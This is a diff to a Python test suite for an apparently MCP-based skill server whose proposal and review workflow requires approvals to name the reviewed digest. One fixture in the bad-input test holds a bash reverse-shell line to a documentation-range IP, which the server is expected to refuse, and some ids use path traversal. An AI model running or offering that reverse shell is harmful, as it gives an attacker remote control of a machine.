@@ -105,6 +105,18 @@ def propose(server: Running, token: str, name: str, text: str = "Feed the zebraf
     return data(server, token, "propose_skill", name=name, files=files(name, text), **more).get("proposal", {}).get("id", "")
 
 
+def approve(server: Running, token: str, id: str, /, **more: object) -> dict[str, object]:
+    """Approves a proposal as a reviewer does who has just looked at it, and returns the envelope."""
+    shown = data(server, "reviewer", "show_proposal", id=id)
+    return ask(server, token, "review_proposal", id=id, decision="approve", digest=shown["proposal"]["digest"], base=shown["base"], **more)
+
+
+def approved(server: Running, id: str, /, **more: object) -> dict[str, object]:
+    answer = approve(server, "reviewer", id, **more)
+    check(answer.get("success") is True, f"the reviewer approves {id}", answer)
+    return answer.get("data") or {}
+
+
 def listed(server: Running, token: str = "reader") -> str:
     return json.dumps(server.post(legacy("prompts/list"), MCP_Protocol_Version=LEGACY, Authorization=f"Bearer {token}")[1])
 
@@ -120,11 +132,14 @@ def tools(server: Running, token: str) -> set[str]:
 
 def roles(house: House) -> None:
     server = house.serve()
+    supported = json.loads(server.ask("GET", "/.well-known/oauth-protected-resource/mcp")[1]).get("scopes_supported")
+    check(supported == ["skills:read", "skills:manage", "skills:review", "skills:propose"], "clients learn which scope to request", supported)
     check(NAMES - tools(server, "proposer") == {"review_proposal"}, "the tool that decides is only for reviewers", tools(server, "proposer"))
     check(NAMES <= tools(server, "reviewer"), "reviewers have all tools", tools(server, "reviewer"))
     for token in ("reader", "reviewer", "manager"):
         answer = ask(server, token, "propose_skill", name="fish", files=files("fish"))
         check(fault(answer)[0] == -31007 and "skills:propose" in fault(answer)[1], f"{token} may not propose", answer)
+        check(answer["error"].get("data", {}).get("scope") == "skills:read skills:propose", "the refusal names the scopes that are needed", answer)
     check(not house.stored(), "a refused caller leaves nothing", house.stored())
 
     first = propose(server, "proposer", "fish", note="for the pond")
@@ -140,15 +155,16 @@ def roles(house: House) -> None:
     check(fault(ask(server, "other", "show_proposal", id=first))[1].startswith("there is no proposal"), "and does not learn of it")
     everything = data(server, "reviewer", "list_proposals", state="pending")
     check([one["proposer"] for one in everything["proposals"]] == ["ada"], "reviewers see all", everything)
+    check((everything["proposals"][0]["change"], everything["proposals"][0]["findings_total"]) == (False, 0), "with the kind and the findings", everything)
     shown = data(server, "reviewer", "show_proposal", id=first)
     check(shown["change"] is False and "+Feed the zebrafish." in shown["files"][0]["text"] and
           shown["proposal"]["note"] == "for the pond", "the reviewer reads all of it", shown)
     for token in ("proposer", "other", "reader", "manager"):
-        answer = ask(server, token, "review_proposal", id=first, decision="approve")
+        answer = approve(server, token, first)
         check(answer.get("success") is not True, f"{token} may not decide", answer)
     check("fish" not in listed(server), "and it is still not served")
 
-    done = data(server, "reviewer", "review_proposal", id=first, decision="approve", reason="good")
+    done = approved(server, first, reason="good")
     check(done["proposal"]["state"] == "approved", "the reviewer approves it", done)
     until(lambda: '"fish"' in listed(server), "the approved skill is served")
     check("zebrafish" in text_of(server, "fish"), "with its text")
@@ -157,8 +173,9 @@ def roles(house: House) -> None:
     check(fault(again)[0] == "CONFLICT" and "rex" in fault(again)[1], "a decision holds", again)
 
     mine = propose(server, "both", "own")
-    answer = ask(server, "both", "review_proposal", id=mine, decision="approve")
+    answer = approve(server, "both", mine)
     check(fault(answer)[0] == -31007 and "another reviewer" in fault(answer)[1], "nobody approves the own proposal", answer)
+    check("scope" not in answer["error"].get("data", {}), "and no scope would change that", answer)
     check(data(server, "reviewer", "review_proposal", id=mine, decision="reject", reason="no")["proposal"]["state"] == "rejected", "another one decides")
     check("own" not in [path.name for path in house.skills.iterdir()], "a rejected proposal is not served")
 
@@ -174,13 +191,25 @@ def changes(house: House) -> None:
     change = propose(server, "proposer", "csv", "New text.")
     shown = data(server, "proposer", "show_proposal", id=change)
     text = next(one["text"] for one in shown["files"] if one["path"] == "SKILL.md")
+    check(data(server, "proposer", "list_proposals")["proposals"][0]["change"] is True, "the list says that it is a change")
     check(shown["change"] is True and "-Old text." in text and "+New text." in text, "a change is shown as a difference", shown)
     (house.skills / "csv" / "SKILL.md").write_text(document("csv", "By hand."))
-    outdated = ask(server, "reviewer", "review_proposal", id=change, decision="approve")
+    outdated = approve(server, "reviewer", change)
     check(fault(outdated)[0] == "CONFLICT" and "even_if_changed" in fault(outdated)[1], "a change since then is a conflict", outdated)
     until(lambda: "By hand." in text_of(server, "csv"), "what is there is served")
     check(data(server, "reviewer", "show_proposal", id=change)["outdated"] is True, "the reviewer is told")
-    data(server, "reviewer", "review_proposal", id=change, decision="approve", even_if_changed=True)
+    answer = ask(server, "reviewer", "review_proposal", id=change, decision="approve", digest=shown["proposal"]["digest"], even_if_changed=True)
+    check(fault(answer) == ("INVALID_INPUT", "arguments.base: required with even_if_changed; it is the base that show_proposal gave"),
+          "nobody overwrites a skill that was not shown", answer)
+    answer = ask(server, "reviewer", "review_proposal", id=change, decision="approve", digest=shown["proposal"]["digest"], base=shown["base"],
+                 even_if_changed=True)
+    check(fault(answer)[0] == "CONFLICT" and "show it again" in fault(answer)[1], "not even if it was shown before it changed", answer)
+    answer = ask(server, "reviewer", "review_proposal", id=change, decision="approve")
+    check(fault(answer) == ("MISSING_REQUIRED_FIELD", "arguments.digest: required"), "an approval names what was shown", answer)
+    for decision in ("approve", "reject"):
+        answer = ask(server, "reviewer", "review_proposal", id=change, decision=decision, digest="blake3:" + "0" * 64)
+        check(fault(answer)[0] == "CONFLICT" and shown["proposal"]["digest"] in fault(answer)[1], f"{decision} of something else is a conflict", answer)
+    approved(server, change, even_if_changed=True)
     until(lambda: "New text." in text_of(server, "csv"), "the new text is served")
     check((house.inbox / change / ".before" / "SKILL.md").read_text() == document("csv", "By hand."), "what was there is kept")
 
@@ -189,7 +218,7 @@ def changes(house: House) -> None:
     late = propose(server, "proposer", "late")
     write_skill(house.folder / "hub", "late", "Came in the meantime.")
     until(lambda: "meantime" in listed(server), "another source serves the name now")
-    answer = ask(server, "reviewer", "review_proposal", id=late, decision="approve")
+    answer = approve(server, "reviewer", late)
     check(fault(answer)[0] == "CONFLICT" and "hub/late" in fault(answer)[1], "then it cannot be approved", answer)
 
     # A long text can be read to its end.
@@ -245,7 +274,7 @@ def bad_input(house: House) -> None:
             files=[*good, {"path": "run.sh", "text": "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"}])
     check(not house.stored(), "nothing of all that is stored", house.stored())
     for one in ("", "..", "../../etc", "a" * 32, "A" * 32):
-        answer = ask(server, "reviewer", "review_proposal", id=one, decision="approve")
+        answer = ask(server, "reviewer", "review_proposal", id=one, decision="approve", digest="x")
         check(fault(answer)[0] in ("NOT_FOUND", "INVALID_INPUT"), f"the id {one!r} is unknown", answer)
 
     warned = data(server, "proposer", "propose_skill", name="fish", files=files("fish", "See [more](more.md)."))
@@ -253,7 +282,7 @@ def bad_input(house: House) -> None:
     binary = data(server, "proposer", "propose_skill", name="fish",
                   files=[*good, {"path": "assets/a.bin", "base64": "AAH/"}, {"path": "run.sh", "text": "#!/bin/sh\n", "executable": True}])
     check(len(house.stored()) == 1, "the second proposal replaces the first", house.stored())
-    data(server, "reviewer", "review_proposal", id=binary["proposal"]["id"], decision="approve")
+    approved(server, binary["proposal"]["id"])
     check((house.skills / "fish/assets/a.bin").read_bytes() == b"\x00\x01\xff" and os.access(house.skills / "fish/run.sh", os.X_OK) and
           not os.access(house.skills / "fish/SKILL.md", os.X_OK), "bytes and executable bits are those of the proposal")
     check(server.end() == 0, "the server ends")
@@ -268,10 +297,10 @@ def bounded(house: House) -> None:
         check(fault(answer)[0] == "RATE_LIMITED", "each caller may have only so many", answer)
     other = propose(two, "other", "a", "Of another.")
     check(fault(ask(one, "both", "propose_skill", name="d", files=files("d")))[0] == "RATE_LIMITED", "and all together too")
-    data(one, "reviewer", "review_proposal", id=ids[0], decision="approve")
+    approved(one, ids[0])
     check(fault(ask(two, "reviewer", "review_proposal", id=ids[0], decision="reject"))[0] == "CONFLICT", "both servers know of a decision")
     until(lambda: "zebrafish" in text_of(two, "a"), "and both serve the skill")
-    outdated = ask(two, "reviewer", "review_proposal", id=other, decision="approve")
+    outdated = approve(two, "reviewer", other)
     check(fault(outdated)[0] == "CONFLICT", "the other proposal of that name is outdated", outdated)
     one.process.send_signal(signal.SIGKILL)
     one.process.wait(DEADLINE)
@@ -295,7 +324,7 @@ def killed(house: House) -> None:
                         *files(f"s{number}", f"Round {round}."),
                         *({"path": f"references/{i}.md", "text": "text\n" * 1000} for i in range(20))])["proposal"]["id"]
                     answered.append(id)
-                    data(server, "reviewer", "review_proposal", id=id, decision="approve")
+                    approved(server, id)
             except (OSError, http.client.HTTPException):
                 pass  # the server is gone
 
@@ -314,7 +343,7 @@ def killed(house: House) -> None:
             shown = data(server, "reviewer", "show_proposal", id=id)
             check(shown.get("proposal", {}).get("files") == 21, "each proposal that was answered or is listed is whole", shown)
         for id in known:
-            data(server, "reviewer", "review_proposal", id=id, decision="approve")
+            approved(server, id)
         for skill in house.skills.iterdir():
             if skill.name != "csv":
                 check(len(list(skill.rglob("*.md"))) == 21, "each skill is whole", list(skill.rglob("*")))
@@ -327,7 +356,10 @@ def visibility(house: House) -> None:
     server = house.serve()
     hidden = propose(server, "proposer", "csv", "New text.")
     shown = data(server, "proposer", "show_proposal", id=hidden)
-    check("Old text." not in json.dumps(shown) and shown["change"] is False, "the hidden skill is not shown", shown)
+    check("Old text." not in json.dumps(shown) and (shown["change"], shown["base"], shown["outdated"]) == (False, "", False),
+          "the hidden skill is not shown", shown)
+    check(data(server, "proposer", "list_proposals")["proposals"][0]["change"] is False, "nor is it in the list")
+    check(data(server, "reviewer", "list_proposals")["proposals"][0]["change"] is True, "reviewers see it there")
     seen = data(server, "reviewer", "show_proposal", id=hidden)
     check("-Old text." in json.dumps(seen), "the reviewer sees the difference", seen)
     check(server.end() == 0, "the server ends")
@@ -343,7 +375,8 @@ def without_auth(house: House) -> None:
     check(NAMES - names == {"review_proposal"}, "on stdio the user may propose, and the agent cannot approve", names)
     made = local(session, "propose_skill", name="fish", files=files("fish"))["data"]
     check(made["proposal"]["state"] == "pending" and made["proposal"]["proposer"] == "the local user", "the user proposes", made)
-    refused = session.answer("tools/call", name="review_proposal", arguments={"id": made["proposal"]["id"], "decision": "approve"})
+    refused = session.answer("tools/call", name="review_proposal", arguments={"id": made["proposal"]["id"], "decision": "approve",
+                                                                             "digest": made["proposal"]["digest"]})
     check("result" not in refused or refused["result"].get("isError"), "nobody decides over MCP", refused)
     check("fish" not in json.dumps(session.call("prompts/list")), "nothing is served")
     check(local(session, "list_proposals")["data"]["total"] == 1, "the user sees it")
@@ -402,6 +435,8 @@ def by_command(house: House) -> None:
     check(server.end() == 0, "the server ends")
     house.write(inbox={})
     server = house.serve()
+    supported = json.loads(server.ask("GET", "/.well-known/oauth-protected-resource/mcp")[1]).get("scopes_supported")
+    check(supported == ["skills:read", "skills:manage"], "without an inbox there is no scope for it", supported)
     (folder / "link.md").unlink()
     check("Unknown tool: propose_skill" in run(str(folder), code=1), "a server without an inbox has no such tool")
     check(server.end() == 0, "the server ends")
